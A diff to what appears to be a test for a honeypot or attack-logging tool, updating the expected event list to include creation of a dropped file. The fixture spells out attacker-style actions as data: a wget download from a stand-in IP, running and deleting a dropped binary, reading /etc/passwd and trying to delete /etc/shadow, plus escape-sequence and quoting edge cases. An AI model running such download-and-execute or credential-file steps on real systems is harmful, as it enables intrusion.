@@ -85,7 +85,8 @@ def main():
     wget = "wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'"
     want = [('accept', 'success', '203.0.113.9'), ('exec', 'success', '-sh'), ('exec', 'failure', wget),
             ('exec', 'success', wget), ('connect', 'failure', '198.51.100.7'), ('connect', 'success', '198.51.100.7'),
-            ('create', 'success', '/root/evil\x1b[31m\n\ufffd\\' + script), ('read', 'success', '/etc/passwd'),
+            ('create', 'success', '/root/evil\x1b[31m\n\ufffd\\' + script), ('create', 'success', '/root/dropped'),
+            ('read', 'success', '/etc/passwd'),
             ('chmod', 'success', '/root/dropped'), ('exec', 'success', "./dropped 'it'\\''s' '\u202e' ''"),
             ('delete', 'success', '/root/dropped'), ('delete', 'failure', '/etc/shadow'), ('exec', 'failure', 'nonsense'), ('exec', 'failure', 'nonsense')]
     expect(told == want, f'{told}')
